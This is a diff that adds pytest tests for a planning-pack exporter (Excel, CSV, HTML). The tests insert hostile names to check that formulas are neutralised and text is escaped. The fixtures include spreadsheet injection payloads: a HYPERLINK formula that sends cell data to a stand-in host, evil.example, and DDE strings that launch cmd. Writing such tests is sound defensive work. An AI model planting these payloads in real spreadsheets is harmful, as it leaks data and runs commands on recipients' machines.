@@ -135,3 +135,214 @@ def test_output_that_is_an_input_is_refused(tmp_path):
     with pytest.raises(ValueError, match="one of the input files"):
         X.refuse_inputs_as_outputs([link], [f])
     X.refuse_inputs_as_outputs([tmp_path / "other.csv"], [f])  # no error
+
+
+# --- the whole pack, on a small generated organisation with hostile names -------------
+# Names a tracker could hold: every text column of the pack (project, person, type) gets some.
+HOSTILE_PROJECTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
+                    "@SUM(1+1)", "Проект Альфа 项目", "🚀 launch 👩‍💻", "line one\nline two", "p" * 10_000]
+HOSTILE_PEOPLE = ["=1+2", "-Ann Lee", "@Bo", "Зоя Ли", "李 娜", "Émile 🙂"]
+HOSTILE_MANAGERS = ["=cmd|' /C notepad'!'A1'", "+Mgr", "\tTab Mgr"]
+N_TRIALS = 500
+
+
+def _hostile(sample):
+    from pmo_forecast import schema as S
+
+    tasks, projects, people, requests = (df.copy() for df in sample)
+    open_ids = tasks.loc[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES), S.PROJECT_ID].unique()
+    ids = sorted(projects[S.PROJECT_ID].unique(), key=lambda p: (p not in open_ids, p))  # open ones first
+    pmap = dict(zip(ids, HOSTILE_PROJECTS, strict=True))
+    counts = tasks[S.ASSIGNEE].value_counts()
+    busiest = sorted(counts.index, key=lambda n: (-counts[n], n))[:len(HOSTILE_PEOPLE)]
+    nmap = dict(zip(busiest, HOSTILE_PEOPLE, strict=True))
+    managers = sorted(set(projects.loc[projects[S.PROJECT_ID].isin(open_ids), S.MANAGER]) - set(nmap))
+    nmap.update(zip(managers, HOSTILE_MANAGERS, strict=False))
+    for df, cols, m in ((tasks, [S.PROJECT_ID], pmap), (projects, [S.PROJECT_ID], pmap),
+                        (requests, [S.PROJECT_ID], pmap), (tasks, [S.ASSIGNEE], nmap),
+                        (people, [S.PERSON], nmap), (projects, [S.MANAGER], nmap), (requests, [S.HANDLER], nmap)):
+        for c in cols:
+            df[c] = df[c].replace(m)
+    tasks[S.TASK_TYPE] = tasks[S.TASK_TYPE].replace({"review": "=review()", "deploy": "+deploy"})
+    return tasks, projects, people, requests
+
+
+@pytest.fixture(scope="module")
+def data():
+    from pmo_forecast import generate_sample
+
+    # 8 projects, ~2,800 tasks of which 3 projects open at as_of: small enough for a fast test
+    return _hostile(generate_sample(seed=7, n_projects=8))
+
+
+@pytest.fixture(scope="module")
+def pack(data, tmp_path_factory):
+    tasks, projects, people, requests = data
+    out = tmp_path_factory.mktemp("pack")
+    return X.export_planning_pack(out / "pack.xlsx", tasks=tasks, projects=projects, people=people,
+                                  requests=requests, n_trials=N_TRIALS, random_state=3, progress=False)
+
+
+@pytest.fixture(scope="module")
+def book(pack):
+    return openpyxl.load_workbook(pack.path)
+
+
+def _block(ws, title):
+    """A block of the sheet as a DataFrame: the rows under the header following ``title``."""
+    rows = [[c.value for c in r] for r in ws.iter_rows()]
+    start = next(i for i, r in enumerate(rows) if r[0] == title)
+    header = start + 1 if rows[start + 1][0] is not None and ws.cell(start + 2, 1).font.b else start + 2
+    names = [v for v in rows[header] if v is not None]
+    body = []
+    for r in rows[header + 1:]:
+        if all(v is None for v in r):
+            break
+        body.append(r[:len(names)])
+    return pd.DataFrame(body, columns=names)
+
+
+def test_sheets_in_order(book):
+    assert book.sheetnames == ["Summary", "Projects", "Accuracy", "Capacity", "Data quality", "Assumptions"]
+
+
+def test_no_formula_anywhere_and_hostile_text_is_quoted(book):
+    seen = set()
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", f"{ws.title}!{c.coordinate} holds a formula"
+                if isinstance(c.value, str):
+                    seen.add(c.value)
+                    if c.value.startswith(X.FORMULA_PREFIXES):
+                        assert c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value[:20]!r} is not quote-prefixed"
+    assert set(HOSTILE_PROJECTS[:4]) <= seen
+    assert {"=1+2", "-Ann Lee", "Зоя Ли", "李 娜", "Émile 🙂", "=review()", "+deploy"} <= seen
+    assert HOSTILE_MANAGERS[0] in seen  # the manager of an open project, on the Projects sheet
+
+
+def test_csv_tables_are_escaped(pack):
+    for f in pack.files:
+        if f.suffix != ".csv":
+            continue
+        with open(f, encoding="utf-8-sig", newline="") as fh:
+            for row in csv.reader(fh):
+                bad = [v for v in row if v.startswith(X.FORMULA_PREFIXES) and not _number(v)]
+                assert not bad, f"{f.name}: {bad[:3]}"
+
+
+def _number(text):
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def test_projects_sheet_matches_the_forecast(pack, book):
+    from pmo_forecast import schema as S
+
+    ws = book["Projects"]
+    assert ws.freeze_panes == "B6"
+    sheet = _block(ws, "Per project")
+    fc = pack.forecasts["overrun"].by_project()
+    assert sheet["project_id"].tolist() == [str(p) for p in fc.index]
+    for mine, theirs in (("effort_p50_hours", "p50"), ("effort_p80_hours", "p80"), ("effort_p90_hours", "p90"),
+                         ("prob_overrun", "prob_overrun"), ("contingency_p80", "contingency_p80"),
+                         ("budget_hours", S.BUDGET)):
+        np.testing.assert_allclose(sheet[mine].astype(float), fc[theirs].to_numpy(float), rtol=1e-12)
+    header = {c.value: c.column for c in ws[5]}
+    assert ws.cell(6, header["effort_p80_hours"]).number_format == X.NUMBER_FORMATS["hours"]
+    assert ws.cell(6, header["prob_overrun"]).number_format == X.NUMBER_FORMATS["pct"]
+    assert ws.cell(6, header["due"]).number_format == X.NUMBER_FORMATS["date"]
+    assert ws.column_dimensions["A"].width >= 10
+
+
+def test_native_charts(pack):
+    import zipfile
+
+    with zipfile.ZipFile(pack.path) as z:
+        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
+    assert any("Effort at completion" in c and "Projects" in c for c in charts)  # fan chart on Projects data
+
+
+def test_summary_headline_numbers(pack, book):
+    kpis = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
+    port = pack.forecasts["overrun"].portfolio().iloc[0]
+    assert kpis["Effort still to spend, P80 (hours)"] == pytest.approx(port["p80"] - port["spent_hours"], rel=1e-12)
+    assert kpis["Open projects forecast"] == len(pack.forecasts["overrun"].project_ids)
+    fit = pack.forecasts["queue"]
+    assert kpis["PM-pool utilisation (queue model)"] == pytest.approx(fit.queue.utilisation, rel=1e-12)
+
+
+def test_assumptions_record_inputs_and_settings(book):
+    ws = book["Assumptions"]
+    run = _block(ws, "Run").set_index("setting")["value"]
+    assert run["Monte Carlo trials"] == N_TRIALS and run["random seed"] == 3
+    inputs = _block(ws, "Input files")
+    assert inputs["input"].tolist() == ["tasks", "projects", "people", "requests"]
+    settings = _block(ws, "Model settings").set_index("setting")["value"]
+    assert settings["accuracy model: random_state"] == 3
+
+
+def test_summary_html_is_self_contained_and_escaped(pack):
+    page = (pack.path.parent / "summary.html").read_text(encoding="utf-8")
+    assert page.count('src="data:image/png;base64,') >= 2  # fan chart and queue waits, embedded
+    assert "<script" not in page and "http" not in page.replace("http://evil.example", "")
+    # the hostile project name appears only as escaped text, never as markup
+    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)" in page
+    assert "<a " not in page and 'href="' not in page
+    assert "p" * 10_000 not in page  # long cells are shortened on the page
+
+
+def test_rerun_gives_identical_numbers(pack, data, tmp_path):
+    tasks, projects, people, requests = data
+    again = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
+                                   requests=requests, n_trials=N_TRIALS, random_state=3, progress=False)
+    first = {f.name: f for f in pack.files}
+    for f in again.files:
+        if f.suffix == ".csv" and f.name != "pack-assumptions.csv":
+            assert f.read_bytes() == first[f.name].read_bytes(), f.name
+    a = pd.read_csv(first["pack-assumptions.csv"])
+    b = pd.read_csv(tmp_path / "pack-assumptions.csv")
+    differ = a["setting"][a["value"] != b["value"]].tolist()
+    assert all(s.startswith("export time") for s in differ)
+
+
+def test_input_file_as_output_is_refused(tmp_path, data):
+    tasks = data[0]
+    src = tmp_path / "pack-projects.csv"
+    tasks.to_csv(src, index=False)
+    before = src.read_bytes()
+    with pytest.raises(ValueError, match="would be replaced by one of its CSV tables"):
+        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=src, progress=False)
+    xlsx = tmp_path / "tasks.xlsx"
+    xlsx.write_bytes(b"an input workbook")
+    with pytest.raises(ValueError, match="refusing to write .*tasks.xlsx: it is one of the input files"):
+        X.export_planning_pack(xlsx, tasks=src, projects=xlsx, progress=False)
+    assert src.read_bytes() == before and xlsx.read_bytes() == b"an input workbook"
+
+
+def test_interrupted_export_keeps_the_previous_pack(pack, data, tmp_path, monkeypatch):
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "pack.xlsx").write_bytes(b"previous pack")
+    (out / "summary.html").write_text("previous summary")
+
+    def broken(path, sheets, **kw):
+        open(path, "wb").write(b"PK half a workbook")
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(X, "write_workbook", broken)
+    tasks, projects, people, requests = data
+    with pytest.raises(KeyboardInterrupt):
+        X.export_planning_pack(out / "pack.xlsx", tasks=tasks, projects=projects, requests=requests,
+                               n_trials=50, progress=False)
+    assert sorted(p.name for p in out.iterdir()) == ["pack.xlsx", "summary.html"]
+    assert (out / "pack.xlsx").read_bytes() == b"previous pack"
+    assert (out / "summary.html").read_text() == "previous summary"
+
+
+def test_not_an_xlsx_path_is_refused(tmp_path, data):
+    with pytest.raises(ValueError, match="give a path ending in .xlsx"):
+        X.export_planning_pack(tmp_path / "pack.xls", tasks=data[0], progress=False)
